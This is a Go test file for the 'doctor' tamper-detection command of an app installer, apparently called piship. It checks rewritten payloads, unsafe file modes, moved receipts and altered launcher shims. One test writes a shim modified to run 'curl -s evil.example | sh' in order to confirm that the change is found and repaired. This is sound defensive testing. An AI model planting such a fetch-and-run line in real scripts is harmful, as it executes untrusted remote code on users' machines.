package home

import (
	"context"
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"piship.dev/piship/cache/canon"
	"piship.dev/piship/stages/home/receipt"
	"piship.dev/piship/stages/payload"
)

func foundText(rep *DoctorReport) string {
	var b strings.Builder
	for _, f := range rep.Found {
		b.WriteString(f.String() + "\n")
	}
	return b.String()
}

func codes(items []DoctorItem) string {
	var cs []string
	for _, i := range items {
		cs = append(cs, i.Code)
	}
	return strings.Join(cs, ",")
}

func (e *env) doctor() *DoctorReport {
	e.t.Helper()
	rep, err := Doctor(context.Background(), e.opts(), "hello", time.Minute)
	if err != nil {
		e.t.Fatalf("doctor: %v", err)
	}
	return rep
}

// wantFound runs doctor and checks it found exactly the codes want (in
// order), each naming path, and did not call the release verified.
func (e *env) wantFound(what string, want ...string) *DoctorReport {
	e.t.Helper()
	rep := e.doctor()
	if got := codes(rep.Found); got != strings.Join(want, ",") || rep.Verified || !rep.Damaged() {
		e.t.Fatalf("%s: found %s (verified %v), want %v:\n%s", what, got, rep.Verified, want, foundText(rep))
	}
	return rep
}

// The receipt records the inventory's digest for every kind of install
// and release.json's for those that have one.
func TestReceiptRecordsInventoryAndReleaseDigests(t *testing.T) {
	e := newEnv(t)
	rel := makeRelease(t, e.src, spec("1.0.0"))
	arc, _ := makeArchive(t, makeRelease(t, e.src, spec("2.0.0")))
	pay := filepath.Join(e.src, "payload-3")
	makePayload(t, pay, spec("3.0.0"))
	for _, src := range []string{rel, arc, pay} {
		res := e.mustInstall(src)
		r := e.receipt().Find(res.Version)
		inv, _ := os.ReadFile(filepath.Join(r.Payload, filepath.FromSlash(payload.InventoryName)))
		if r.InventorySHA256 != sum(inv) {
			t.Errorf("%s: inventorySha256 %q, want %s", res.Source, r.InventorySHA256, sum(inv))
		}
		rj, err := os.ReadFile(filepath.Join(r.Dir, "release.json"))
		switch {
		case res.Source == receipt.SourcePayload && r.ReleaseSHA256 != "":
			t.Errorf("payload install: releaseSha256 %q, want empty", r.ReleaseSHA256)
		case res.Source != receipt.SourcePayload && (err != nil || r.ReleaseSHA256 != sum(rj)):
			t.Errorf("%s: releaseSha256 %q, want %s (%v)", res.Source, r.ReleaseSHA256, sum(rj), err)
		}
	}
}

// Doctor finds every tampering of the active release: a payload file and
// its inventory line rewritten together, the lock, release.json, a setuid
// or world-writable mode, and a receipt pointing at a consistent copy
// outside apps/<id>/.
func TestDoctorFindsTampering(t *testing.T) {
	e := newEnv(t)
	e.mustInstall(makeRelease(t, e.src, spec("1.0.0")))
	if rep := e.doctor(); rep.Damaged() || !rep.Verified {
		t.Fatalf("fresh install: %s", foundText(rep))
	}
	r := *e.receipt().Find("1.0.0")
	cli := filepath.Join(r.Payload, "node_modules", "x", "cli.js")
	invPath := filepath.Join(r.Payload, filepath.FromSlash(payload.InventoryName))
	restore := func(p string) func() {
		b, err := os.ReadFile(p)
		if err != nil {
			t.Fatal(err)
		}
		return func() { os.Chmod(p, 0o644); os.WriteFile(p, b, 0o644) }
	}

	// A file and its inventory line rewritten together: the payload
	// matches its inventory, the inventory is not the one installed.
	undoCLI, undoInv := restore(cli), restore(invPath)
	writeFile(t, cli, "console.log('evil')\n", 0o644)
	var inv map[string]string
	canon.ReadJSON(invPath, &inv)
	inv["node_modules/x/cli.js"] = sum([]byte("console.log('evil')\n"))
	data, _ := canon.JSON(inv)
	writeFile(t, invPath, string(data), 0o644)
	if err := payload.Verify(context.Background(), r.Payload); err != nil {
		t.Fatalf("the rewrite is not consistent: %v", err)
	}
	// checksums.txt binds the inventory too, but one rewrite is one
	// finding: the receipt's, which names the file.
	rep := e.wantFound("inventory rewritten", DoctorInventoryModified)
	if rep.Found[0].Path != invPath || strings.Count(foundText(rep), "\n") != 1 {
		t.Fatalf("one line naming %s, got:\n%s", invPath, foundText(rep))
	}
	undoCLI()
	undoInv()

	// The lock is in the inventory too; release.json is not.
	for _, c := range []struct {
		file  string
		codes []string
	}{
		{filepath.Join(r.Payload, "piship.lock"), []string{DoctorLockModified}},
		{filepath.Join(r.Dir, "release.json"), []string{DoctorReleaseModified}},
	} {
		undo := restore(c.file)
		b, _ := os.ReadFile(c.file)
		writeFile(t, c.file, string(b)+" ", 0o644)
		e.wantFound(filepath.Base(c.file), c.codes...)
		undo()
	}

	// chmod 4777, and a directory writable by everyone.
	if err := os.Chmod(cli, 0o777|os.ModeSetuid); err != nil { // chmod 4777
		t.Fatal(err)
	}
	rep = e.wantFound("chmod 4777", DoctorModeUnsafe)
	if rep.Found[0].Path != cli || !strings.Contains(rep.Found[0].Detail, "setuid") || !strings.Contains(rep.Found[0].Detail, "writable by group or others") {
		t.Fatalf("%+v", rep.Found)
	}
	os.Chmod(cli, 0o644)
	os.Chmod(filepath.Join(r.Payload, "node_modules"), 0o777)
	e.wantFound("world-writable directory", DoctorModeUnsafe)
	os.Chmod(filepath.Join(r.Payload, "node_modules"), 0o755)

	// A consistent copy elsewhere that the receipt points at.
	elsewhere := filepath.Join(e.root, "elsewhere")
	if err := os.CopyFS(elsewhere, os.DirFS(r.Dir)); err != nil {
		t.Fatal(err)
	}
	rc := e.receipt()
	rc.Releases[0].Dir, rc.Releases[0].Payload = elsewhere, filepath.Join(elsewhere, "payload")
	if err := receipt.Write(e.homes.Install, rc); err != nil {
		t.Fatal(err)
	}
	rep = e.wantFound("payload outside apps/hello", DoctorPayloadOutside)
	if !strings.Contains(rep.Found[0].Detail, "outside") {
		t.Fatal(rep.Found[0].Detail)
	}
	if _, err := os.Stat(elsewhere); err != nil {
		t.Fatalf("doctor touched the copy outside: %v", err)
	}
	if _, err := os.Stat(filepath.Join(r.Payload, "piship.lock")); err != nil || len(rep.Reclaimed) != 0 {
		t.Fatalf("doctor reclaimed %v while the receipt pointed elsewhere (%v)", rep.Reclaimed, err)
	}
}

// A previous release whose lock changed or went is found too.
func TestDoctorChecksThePreviousLock(t *testing.T) {
	e := newEnv(t)
	e.mustInstall(makeRelease(t, e.src, spec("1.0.0")))
	e.mustInstall(makeRelease(t, e.src, spec("2.0.0")))
	lock := filepath.Join(e.receipt().Find("1.0.0").Payload, "piship.lock")
	b, _ := os.ReadFile(lock)
	os.Chmod(lock, 0o644)
	writeFile(t, lock, string(b)+" ", 0o644)
	rep := e.doctor()
	if codes(rep.Found) != DoctorLockModified || !rep.Verified || !strings.Contains(rep.Found[0].Detail, "a rollback to it would fail") {
		t.Fatalf("%s", foundText(rep))
	}
	os.Remove(lock)
	if rep := e.doctor(); codes(rep.Found) != DoctorPreviousIncomplete {
		t.Fatalf("%s", foundText(rep))
	}
}

// Doctor tells a shim someone changed from one an older piship wrote:
// the first is damage (found, then rewritten), the second routine; a
// deleted shim is recreated; a foreign file is left alone.
func TestDoctorShims(t *testing.T) {
	e := newEnv(t)
	e.mustInstall(makeRelease(t, e.src, spec("1.0.0")))
	shim := filepath.Join(e.homes.Bin, "hello")
	good, _ := os.ReadFile(shim)

	writeFile(t, shim, strings.Replace(string(good), "exec ", "curl -s evil.example | sh\nexec ", 1), 0o755)
	rep := e.doctor()
	if codes(rep.Found) != DoctorShimModified || codes(rep.Repaired) != DoctorShimModified || !rep.Verified {
		t.Fatalf("repaired %+v", rep.Repaired)
	}
	if now, _ := os.ReadFile(shim); string(now) != string(good) {
		t.Fatalf("the modified shim was not rewritten:\n%s", now)
	}

	os.Remove(shim)
	rep = e.doctor()
	if codes(rep.Found) != DoctorShimMissing || codes(rep.Repaired) != DoctorShimMissing {
		t.Fatalf("deleted shim: found %+v repaired %+v", rep.Found, rep.Repaired)
	}
	if now, _ := os.ReadFile(shim); string(now) != string(good) {
		t.Fatal("the deleted shim was not recreated")
	}

	old := e.homes
	old.Install = "/old/home"
	writeFile(t, shim, ShimScript("/old/it's/piship", "hello", old), 0o755)
	rep = e.doctor()
	if rep.Damaged() || codes(rep.Repaired) != DoctorShimOutdated || !rep.Verified {
		t.Fatalf("outdated shim: found %+v repaired %+v", rep.Found, rep.Repaired)
	}
	if now, _ := os.ReadFile(shim); string(now) != string(good) {
		t.Fatal("the outdated shim was not rewritten")
	}

	writeFile(t, shim, "#!/bin/sh\necho mine\n", 0o755)
	rep = e.doctor()
	if codes(rep.Found) != DoctorShimForeign || len(rep.Repaired) != 0 {
		t.Fatalf("repaired %+v", rep.Repaired)
	}
	if now, _ := os.ReadFile(shim); string(now) != "#!/bin/sh\necho mine\n" {
		t.Fatal("doctor replaced a file that is not its shim")
	}
}

// A launch gate replaced by a directory is found and repaired (removed
// when empty, set aside otherwise), and doctor goes on to reclaim.
func TestDoctorRepairsALaunchGateDirectory(t *testing.T) {
	e := newEnv(t)
	e.mustInstall(makeRelease(t, e.src, spec("1.0.0")))
	gate := receipt.GatePath(e.homes.Install, "hello")
	leftover := filepath.Join(receipt.AppDir(e.homes.Install, "hello"), receipt.RetainedPrefix+"0.9.0-abcd")
	for _, full := range []bool{false, true} {
		os.Remove(gate)
		writeFile(t, filepath.Join(leftover, "x"), "x", 0o644)
		if err := os.Mkdir(gate, 0o755); err != nil {
			t.Fatal(err)
		}
		if full {
			writeFile(t, filepath.Join(gate, "junk"), "j", 0o644)
		}
		rep := e.doctor()
		if codes(rep.Found) != DoctorLaunchLockInvalid || codes(rep.Repaired) != DoctorLaunchLockInvalid || !rep.Verified || len(rep.Reclaimed) != 1 {
			t.Fatalf("full %v: found %+v repaired %+v reclaimed %v", full, rep.Found, rep.Repaired, rep.Reclaimed)
		}
		if fi, err := os.Lstat(gate); err != nil || !fi.Mode().IsRegular() {
			t.Fatalf("full %v: the gate is not a file again: %v", full, err)
		}
		if full != strings.Contains(rep.Repaired[0].Detail, "set aside") {
			t.Fatalf("full %v: %s", full, rep.Repaired[0].Detail)
		}
	}
	if rep := e.doctor(); rep.Damaged() || len(rep.Repaired) != 0 {
		t.Fatalf("after the repair: %+v", rep)
	}
}

// A receipt that does not parse is a finding with a report, not an
// error without one; the JSON of any report has its schema and arrays,
// never null.
func TestDoctorReportOfACorruptReceipt(t *testing.T) {
	e := newEnv(t)
	e.mustInstall(makeRelease(t, e.src, spec("1.0.0")))
	rep := e.doctor()
	data, err := rep.JSON()
	if err != nil {
		t.Fatal(err)
	}
	var m map[string]any
	if err := json.Unmarshal(data, &m); err != nil || m["schema"] != DoctorSchema || strings.Contains(string(data), "null") {
		t.Fatalf("healthy report JSON (%v):\n%s", err, data)
	}
	for _, k := range []string{"found", "repaired", "reclaimed", "remaining", "leases"} {
		if l, ok := m[k].([]any); !ok || len(l) != 0 {
			t.Errorf("%s is %v, want []", k, m[k])
		}
	}

	writeFile(t, receipt.ReceiptPath(e.homes.Install, "hello"), `{"schema":"piship-install/v1","app":"hello","active":"9.9.9"}`, 0o644)
	rep = e.wantFound("corrupt receipt", DoctorReceiptInvalid)
	data, _ = rep.JSON()
	if !strings.Contains(string(data), `"code": "RECEIPT_INVALID"`) || strings.Contains(string(data), "null") {
		t.Fatalf("%s", data)
	}
}

// Install never reuses a record outside apps/<id>/: installing the same
// archive again is what doctor tells the user to do, and it writes a
// fresh copy inside, after which doctor finds nothing.
func TestReinstallDoesNotReuseAPayloadOutside(t *testing.T) {
	e := newEnv(t)
	arc, _ := makeArchive(t, makeRelease(t, e.src, spec("1.0.0")))
	e.mustInstall(arc)
	r := *e.receipt().Find("1.0.0")
	elsewhere := filepath.Join(e.root, "elsewhere")
	if err := os.CopyFS(elsewhere, os.DirFS(r.Dir)); err != nil {
		t.Fatal(err)
	}
	rc := e.receipt()
	rc.Releases[0].Dir, rc.Releases[0].Payload = elsewhere, filepath.Join(elsewhere, "payload")
	if err := receipt.Write(e.homes.Install, rc); err != nil {
		t.Fatal(err)
	}
	e.wantFound("payload outside", DoctorPayloadOutside)
	if res := e.mustInstall(arc); res.Reused || res.Dir != r.Dir {
		t.Fatalf("reinstall reused %s (reused %v)", res.Dir, res.Reused)
	}
	if rep := e.doctor(); rep.Damaged() || !rep.Verified {
		t.Fatalf("after the reinstall: %s", foundText(rep))
	}
}

// Rollback refuses a previous release whose record points outside
// apps/<id>/, and the receipt stays as it was.
func TestRollbackRefusesAPreviousOutside(t *testing.T) {
	e := newEnv(t)
	e.mustInstall(makeRelease(t, e.src, spec("1.0.0")))
	e.mustInstall(makeRelease(t, e.src, spec("2.0.0")))
	p := *e.receipt().Find("1.0.0")
	elsewhere := filepath.Join(e.root, "elsewhere")
	if err := os.CopyFS(elsewhere, os.DirFS(p.Dir)); err != nil {
		t.Fatal(err)
	}
	rc := e.receipt()
	rc.Find("1.0.0").Dir, rc.Find("1.0.0").Payload = elsewhere, filepath.Join(elsewhere, "payload")
	if err := receipt.Write(e.homes.Install, rc); err != nil {
		t.Fatal(err)
	}
	before := e.receiptBytes()
	_, err := Rollback(context.Background(), e.opts(), "hello")
	wantCode(t, err, receipt.CodeRollback)
	if !strings.Contains(err.Error(), "outside") || e.receiptBytes() != before {
		t.Fatalf("%v (receipt changed: %v)", err, e.receiptBytes() != before)
	}
}

// Doctor reads back the launcher and homes of the shims it writes, for
// both forms, whatever the paths hold; anything else is not a shim of
// another launcher.
func TestShimsParseBack(t *testing.T) {
	h := receipt.Homes{Install: `C:\Users\o'k\100%\i`, Bin: `/b in/x`, State: `/s'"/y`}
	for _, l := range []string{`C:\Program Files\piship\piship-launch.exe`, "/opt/it's/piship"} {
		if gl, gh, ok := parseShimScript(ShimScript(l, "hello", h), "hello"); !ok || gl != l || gh != h {
			t.Errorf("sh: %q %+v %v", gl, gh, ok)
		}
		if gl, gh, ok := parseShimCmd(ShimCmd(l, "hello", h), "hello"); !ok || gl != l || gh != h {
			t.Errorf("cmd: %q %+v %v", gl, gh, ok)
		}
	}
	if _, _, ok := parseShimScript("#!/bin/sh\n# piship command shim for hello:\nexec evil\n", "hello"); ok {
		t.Error("a script without homes parsed as a shim")
	}
}
